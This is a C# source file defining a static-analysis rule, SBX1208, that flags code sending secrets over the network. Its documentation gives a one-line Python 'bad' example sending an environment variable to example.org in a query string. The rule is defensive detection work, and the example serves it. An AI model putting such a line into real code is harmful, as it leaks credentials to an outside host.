using Sandbox.Analysis.Diagnostics;

namespace Sandbox.Analysis.Rules.Network;

/// <summary>SBX1208: sends a secret over the network.</summary>
public sealed class SecretExfiltrationRule() : FileRule(
    new DiagnosticDescriptor("SBX1208", "secret-to-network", Category.Network, "Sends a secret over the network", 60, 91, [200, 201], "high"),
    new RuleDocumentation(
        What: "A value of the environment, of a secret file or of the host reaches a connection, request or name look-up.",
        Why: "This is what stealing credentials looks like.",
        Bad: """
            requests.get("https://example.org/?k=" + os.environ["KEY"])
            """,
        Good: "# no secrets in nodes; the engine gives them none",
        Allow: Allowing.Points));
